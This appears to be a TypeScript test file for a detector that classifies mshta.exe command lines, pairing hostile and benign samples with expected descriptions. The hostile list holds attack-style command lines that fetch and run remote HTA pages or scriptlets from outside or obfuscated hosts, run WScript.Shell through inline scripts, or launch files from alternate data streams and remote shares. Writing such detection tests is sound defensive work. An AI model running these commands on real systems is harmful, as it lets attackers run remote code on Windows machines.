import { MSHTA_MODEL } from "../../../src/attack/programs/mshta.ts";
import { describeReader } from "./labelled.ts";

const OPEN = "runs a page from where every user can write";

// Hostile: from recordings in samples/ and from facts of ATT&CK T1218.005. Benign: set-up and help of
// programs, and message boxes of scripts.
describeReader(MSHTA_MODEL, {
  hostile: [
    [
      "mshta  https://page.googledocpage.com/zOBOvBYm550gShsdwEAKoJUi95+jr4jqgNQ/2N18Q7Y=",
      "runs a page from the address https://page.googledocpage.com/zOBOvBYm550gShsdwEAKoJUi95+jr4jqgNQ/2N18Q7Y=",
    ],
    [
      'mshta "http://198.51.100.7/a b.hta"',
      "runs a page from the address http://198.51.100.7/a b.hta",
    ],
    ["mshta hTTp://0xC6336407/a", "runs a page from the address hTTp://0xC6336407/a"],
    [
      "mshta http://intranet.contoso.com@198.51.100.7/a",
      "runs a page from the address http://intranet.contoso.com@198.51.100.7/a",
    ],
    [
      "mshta.exe javascript:a=GetObject('script:http://h/a').Exec();close();",
      "runs a script from the address http://h/a",
    ],
    [
      'mshta "vbscript:Execute(""CreateObject(""""WScript.Shell"""").Run(1)"")"',
      "runs the script behind vbscript:",
    ],
    [
      "mshta about:<script>new ActiveXObject('WScript.Shell').Run('a')</script>",
      "runs the script behind about:",
    ],
    ["mshta C:\\Users\\u\\Downloads\\invoice.hta", OPEN],
    ['"C:\\Windows\\System32\\mshta.exe" "C:\\Windows\\Temp\\a b.HTM" {1E460BD7}', OPEN],
    ["mshta C:\\ProgramData\\a.txt:b.hta", OPEN],
    ["mshta \\\\198.51.100.7\\s\\a.hta", "runs a page from the other host 198.51.100.7"],
  ],
  benign: [
    "mshta.exe",
    "C:\\Windows\\System32\\mshta.exe -Embedding",
    'mshta.exe "C:\\Program Files\\Contoso\\setup.hta"',
    "mshta.exe C:\\Windows\\System32\\help.hta",
    "mshta C:\\Program Files\\Contoso\\setup.hta",
    "mshta http://intranet/apps/a.hta",
    "mshta https://intranet.contoso.com/a.hta",
    "mshta http://10.1.2.3/a.hta",
    "mshta \\\\files\\apps\\a.hta",
    "mshta javascript:alert('done');close();",
    'mshta vbscript:msgbox("done",64,"Setup")(window.close)',
    'mshta vbscript:Execute("msgbox ""done"":close")',
    "mshta about:blank",
    "mshta setup.hta",
    "mshta C:\\Users\\Public\\a.txt",
    'mshta "C:\\Program Files\\Contoso\\setup.hta" C:\\Users\\Public\\a.hta',
  ],
});
